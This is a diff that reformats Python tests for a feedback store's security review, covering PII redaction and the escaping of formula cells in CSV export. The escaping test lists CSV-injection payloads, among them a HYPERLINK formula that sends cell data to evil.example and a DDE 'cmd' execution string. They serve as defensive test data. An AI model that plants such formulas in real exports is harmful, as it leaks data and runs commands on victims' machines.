@@ -79,7 +79,9 @@ def test_export_csv_cli(tmp_path: Path) -> None:
 
 # ---- security review: personal data, file modes, retention, duplicates, CSV formulas, summary ----
 
-PII_QUESTION = "我身份证110101199001011234，手机+86 138 1234 5678，座机010-62345678，邮箱zhang.san@example.com，能报吗？"
+PII_QUESTION = (
+    "我身份证110101199001011234，手机+86 138 1234 5678，座机010-62345678，邮箱zhang.san@example.com，能报吗？"
+)
 RAW = ["110101199001011234", "1234 5678", "62345678", "zhang.san@example.com"]
 
 
@@ -227,7 +229,15 @@ def test_rating_one_answer_again_replaces_the_row(tmp_path: Path) -> None:
 
 def test_csv_export_escapes_formula_cells(tmp_path: Path) -> None:
     store = FeedbackStore(tmp_path / "feedback.sqlite3")
-    cells = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+    cells = [
+        '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
+        "=cmd|' /C calc'!A0",
+        "+SUM(1,2)",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+    ]
     for i, cell in enumerate(cells):
         _add(store, question=cell, comment=cell, rating=-1, session=str(i))
     buf = io.StringIO()
